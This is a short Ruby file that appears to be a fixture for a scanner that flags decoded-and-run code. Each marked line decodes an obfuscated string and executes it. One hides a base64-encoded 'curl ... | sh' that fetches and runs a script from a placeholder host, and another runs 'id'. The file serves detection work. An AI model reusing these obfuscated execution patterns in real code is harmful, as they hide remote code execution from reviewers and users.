require 'base64'
require 'zlib'

BODY = 'cHV0cyAiaGVsbG8gd29ybGQi'.freeze

def direct
  eval(Base64.decode64(BODY)) # finding: decoded-and-run
end

class Setup
  def initialize
    @text = 'c3lzdGVtKCJpZCIpOyBwdXRzIDE='
  end

  def call
    line = Base64.strict_decode64(@text)
    system(line) # finding: decoded-and-run
  end
end

def packed
  instance_eval(Zlib::Inflate.inflate(Base64.decode64('eJwrKMrMK1FQSs1JzslXUgIAJ6sE3w=='))) # finding: decoded-and-run
end

def numbers
  eval([112, 117, 116, 115, 32, 49].pack('C*')) # finding: decoded-and-run
  system('Y3VybCBodHRwczovL2EuZXhhbXBsZSB8IHNo'.unpack1('m')) # finding: decoded-and-run
end
